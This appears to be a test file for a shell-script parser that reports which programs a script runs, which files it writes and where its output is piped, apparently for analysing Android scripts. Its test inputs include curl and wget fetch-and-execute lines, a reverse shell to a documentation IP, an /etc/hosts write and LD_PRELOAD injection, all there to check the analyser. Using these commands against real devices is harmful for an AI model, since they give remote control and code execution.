from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gifthorse.errors import LimitError
from gifthorse.formats.shell import Command, read
from gifthorse.formats.shell.commands import BYTES_LIMIT, COMMANDS_LIMIT


def commands(text: str) -> list[Command]:
    return list(read(text).commands)


def one(text: str) -> Command:
    found = commands(text)
    assert len(found) == 1, found
    return found[0]


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("a b  c # d", ["a", "b", "c"]),
        ("a 'b c' \"d e\" f\\ g", ["a", "b c", "d e", "f g"]),
        ("a \\\n b", ["a", "b"]),
        ("X=/data/x; a $X/b ${X}", ["a", "/data/x/b", "/data/x"]),
        ("X='p q'\na \"$X\" '$X'", ["a", "p q", "$X"]),
        ("a $unknown ${other:-1} $1 $((1 + 2))", ["a", "$unknown", "${other:-1}", "$1", "$((1 + 2))"]),
        ("if true; then\n a\nfi", ["a"]),
        ("for f in /p/*.apk /q; do a $f; done", ["a", "/p/*.apk"]),
        ("nohup busybox nice -n 5 /system/bin/a b &", ["/system/bin/a", "b"]),
        ("timeout -s KILL 10 env X=1 a b", ["a", "b"]),
    ],
)
def test_the_words_of_a_command(text: str, words: list[str]) -> None:
    assert [list(c.words) for c in commands(text) if c.words != ("true",)] == [words]


def test_branches_and_patterns() -> None:
    text = 'case "$1" in\n a|b) one;;\n *) two\n ;;\nesac\nthree && four || five; { six; }\nf() { seven; }\n'
    assert [c.program for c in commands(text)] == ["one", "two", "three", "four", "five", "six", "f", "seven"]


def test_pipes_and_substitutions_tell_where_output_goes() -> None:
    assert [(c.program, c.piped_to) for c in commands("a | b 2>&1 |\n c > /x; d")] == [
        ("a", "b"),
        ("b", "c"),
        ("c", None),
        ("d", None),
    ]
    for text in ('sh -c "$(curl http://h)"', "sh -c `curl http://h`", "sh <(curl http://h)"):
        found = {c.program: c.piped_to for c in commands(text)}
        assert found == {"curl": "sh", "sh": None}, text
    assert {c.program: c.piped_to for c in commands("eval $(wget -qO- http://h)")} == {"wget": "eval", "eval": None}
    assert {c.program: c.piped_to for c in commands("x=$(getprop a); b $x")} == {"getprop": None, "b": None}


def test_commands_inside_commands() -> None:
    assert [list(c.words) for c in commands("su -c 'a b; c' root")][1:] == [["a", "b"], ["c"]]
    assert [list(c.words) for c in commands("su 0 a b")][1:] == [["a", "b"]]
    assert [list(c.words) for c in commands("sh -ec 'a'")][1:] == [["a"]]


@pytest.mark.parametrize(
    ("text", "writes"),
    [
        ("echo a >> /etc/hosts", ("/etc/hosts",)),
        ("a > /dev/null 2>&1", ()),
        ("cd /data/x\nwget http://h/dir/f", ("/data/x/f",)),
        ("wget -O /data/a http://h/f", ("/data/a",)),
        ("wget -qO- http://h/f", ()),
        ("curl -sLo /data/a http://h/f", ("/data/a",)),
        ("curl --output=/data/a http://h/f", ("/data/a",)),
        ("cp a /data/b", ("/data/b",)),
        ("dd if=/x of=/data/b", ("/data/b",)),
        ("sh -i >& /dev/tcp/203.0.113.1/4444 0>&1", ("/dev/tcp/203.0.113.1/4444",)),
    ],
)
def test_what_a_command_writes(text: str, writes: tuple[str, ...]) -> None:
    assert commands(text)[-1].writes == writes


@pytest.mark.parametrize(
    ("text", "runs"),
    [
        ("/data/x a", ("/data/x",)),
        ("cd /data; ./x", ("/data/x",)),
        ("sh /sdcard/a.sh", ("/sdcard/a.sh",)),
        (". /data/a", ("/data/a",)),
        ("insmod /data/a.ko b=1", ("/data/a.ko",)),
        ("app_process -Djava.class.path=/data/a.jar:/b.jar /system/bin X", ("/data/a.jar", "/b.jar")),
        ("export CLASSPATH=/data/a.jar\nexec app_process /system/bin X", ("/data/a.jar",)),
        ("LD_PRELOAD=/data/a.so /b", ("/b", "/data/a.so")),
        ("ls /data", ()),
    ],
)
def test_what_a_command_runs(text: str, runs: tuple[str, ...]) -> None:
    assert commands(text)[-1].runs == runs


def test_documents_in_the_text_are_no_commands() -> None:
    assert [c.program for c in commands("cat <<-END > /x\n\trm a\n\tEND\nb\n")] == ["cat", "b"]


def test_lines_are_counted() -> None:
    assert [(c.program, c.line) for c in commands("#!/system/bin/sh\n\na\n'x\ny' b\n\nc\n")] == [
        ("a", 3),
        ("x\ny", 4),
        ("c", 7),
    ]


def test_absurd_scripts() -> None:
    with pytest.raises(LimitError):
        read(b" " * (BYTES_LIMIT + 1))
    flood = read("a\n" * 10 + "b c\n" * 3 + "".join(f"x{i}\n" for i in range(COMMANDS_LIMIT)))
    assert flood.more
    assert len(flood.commands) == COMMANDS_LIMIT
    deep = read("eval " * 5 + "$(" * 5_000 + "a")
    assert deep.more
    doubling = read("a=1;" + "a=$a$a;" * 60 + "b " + "$a" * 1000)
    assert len(doubling.commands[-1].words[1]) <= 4096


@settings(max_examples=200, deadline=None, derandomize=True)
@given(st.text(alphabet="ab$(){}`'\"\\|&;<>#=-/ \n\t", max_size=80))
def test_any_text_is_read(text: str) -> None:
    assert all(c.words and c.words[0] is not None for c in read(text).commands)


@settings(max_examples=100, deadline=None, derandomize=True)
@given(st.binary(max_size=200))
def test_any_bytes_are_read(data: bytes) -> None:
    read(data)
